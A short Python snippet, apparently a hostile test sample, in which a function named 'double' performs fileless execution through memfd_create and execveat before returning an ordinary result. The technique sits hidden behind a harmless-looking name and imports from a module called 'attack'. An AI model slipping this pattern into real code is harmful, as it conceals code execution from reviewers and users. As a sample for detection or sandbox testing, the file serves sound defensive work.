from attack import right, system_call


def double(values):
    program = system_call("memfd_create", b"program", 0)
    system_call("execveat", program, b"", 0, 0, 0x1000)
    return right(values)
